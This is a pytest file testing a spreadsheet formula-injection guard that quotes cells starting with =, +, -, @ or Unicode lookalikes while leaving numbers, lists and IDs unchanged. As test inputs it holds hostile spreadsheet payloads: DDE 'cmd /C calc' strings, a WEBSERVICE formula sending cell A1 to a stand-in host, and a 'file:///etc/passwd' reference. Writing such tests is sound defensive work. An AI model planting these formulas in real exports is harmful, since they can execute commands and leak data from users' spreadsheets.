"""Formulas: every one that a spreadsheet would calculate is quieted, and nothing else is changed."""

import sys
import unicodedata

import pytest

from batchtui.core.outputs.formulas import guarded, guarded_id


@pytest.mark.parametrize(
    "cell",
    [
        "=1+1",
        "=HYPERLINK(1)",
        "+1+1",
        "-2+3+cmd|' /C calc'!A0",
        "@SUM(1)",
        "\tx",
        "\rx",
        "  =1",
        "＝1+1",
        "＋1",
        "－1a",
        "＠x",
        "\ufeff=1",
        "\u200b=1",
        "\xa0=1",
        "\u2028=1",
        "-",
        "=",
        "+1 234",
        "-1-1",
        "- item",
        "-5;",
        " " * 9000 + "=1",
    ],
)
def test_what_looks_like_a_formula_gets_an_apostrophe(cell: str) -> None:
    assert guarded(cell) == "'" + cell


@pytest.mark.parametrize("lead", ["a;", "a; ", 'a;"', "text\n", "text\r\n\u200b", "x\ty\t", ";", "\n"])
@pytest.mark.parametrize(
    "formula",
    ["=cmd()", "=1+1", "@x", "＠x", "-1+1", "-abc", "- f(1)", "- x|y!A0", "- 'file:///etc/passwd'#$x.A1", "- A1&"],
)
def test_so_does_what_becomes_a_cell_of_its_own_elsewhere(lead: str, formula: str) -> None:
    at = max(lead.rfind(one) for one in ";\t\n\r") + 1
    assert guarded(f"{lead}{formula}") == f"{lead[:at]}'{lead[at:]}{formula}"


def test_every_one_of_several_is_quieted() -> None:
    assert guarded("=1;=2\n=3\n\n  =4\t=5") == "'=1;'=2\n'=3\n\n'  =4\t'=5"
    assert guarded("\t=1") == "'\t'=1"


def test_every_character_that_spreadsheets_take_for_a_sign_is_known() -> None:
    signs = [
        sign
        for sign in map(chr, (*range(0xD800), *range(0xE000, sys.maxunicode + 1)))
        if unicodedata.normalize("NFKC", sign)[:1] in ("=", "+", "-", "@")
    ]
    assert len(signs) > 16
    assert [sign for sign in signs if guarded(f"{sign}x") != f"'{sign}x"] == []


NUMBERS = (
    *("-5", "-1", "+1.5", "1e-3", "-.5", "-1E+9", "+3.", "-1,5", "-1,000.50", "-1.000,50", "-1'000", "-5%", "-$5"),
    *("-inf", "-NaN", " -5 ", "+5 €"),
)


@pytest.mark.parametrize("number", NUMBERS)
def test_numbers_of_any_form_stay_as_they_are(number: str) -> None:
    assert guarded(number) == number
    assert guarded(f"a;{number}\n{number}") == f"a;{number}\n{number}"


@pytest.mark.parametrize(
    "cell",
    [
        "",
        " ",
        "\n",
        "a=b",
        "'=1",
        "1-2",
        "naïve – 😀",
        "*x",
        "Pros:\n- cheap\n- small; light\n  + fast!\n\n---\nCons: none\n-",
        'He said "=1"',
        "a;b;c",
        "a ;) = b",
    ],
)
def test_plain_text_and_lists_stay_as_they_are(cell: str) -> None:
    assert guarded(cell) == cell


@pytest.mark.parametrize(
    "name",
    [
        *("-abc_1", "-", "--x", "-1-1", "@user", "+49 170 123", "=a", "=1+1", "a;-b", "＝a", "-TEG1_R2", "-a-"),
        *("-Smith (Jr)", "@user (an admin)", "+49 (0) 170 123", "+1 (555) 123-4567", "-Report (May, 2026)", "-a\n(b)"),
        *("-5", "-1.5e3", "-1,000", "- 5", "=1 (2)"),
    ],
)
def test_an_id_or_a_key_is_never_changed(name: str) -> None:
    assert guarded_id(name) == name


@pytest.mark.parametrize(
    "blank", [" ", "\n", "\r\n", "\t", "  \n ", "\xa0", "\u200b", "\u2028", " " * 50_000, "\n" * 50_000]
)
@pytest.mark.parametrize(
    "call",
    [
        *(
            '=WEBSERVICE{}("http://e/?"&A1)',
            '=DDE{}("cmd";"/C calc")',
            "-WEBSERVICE{}(A1)",
            "@SUM{}(A1:A9)",
            "=LOG10{}(B2)",
        ),
        *('=1+{}WEBSERVICE("http://e/")', '-{}DDE("cmd","/C calc")', '+A1*{}f{}("x")', "=f{}()"),
    ],
)
def test_a_call_is_one_with_blanks_and_line_breaks_in_it_too(call: str, blank: str) -> None:
    formula = call.replace("{}", blank)
    assert guarded_id(formula) == "'" + formula


@pytest.mark.parametrize("text", ["Pros:\n- cheap (50 %)\n(see [1])", "a\n- b (A1)"])
def test_the_bullets_of_a_list_may_have_parentheses(text: str) -> None:
    assert guarded(text) == text


@pytest.mark.parametrize(
    "name",
    ["=cmd()", "=cmd|' /C calc'!A0", '=H("http://x")', "@SUM(1)", "  -f(1)", "='file:///x'#$a.A1", "=a!B1", '="a"&'],
)
def test_unless_it_would_call_or_fetch_something(name: str) -> None:
    assert guarded_id(name) == "'" + name
    assert guarded_id(f"x;{name}") == f"x;'{name}"
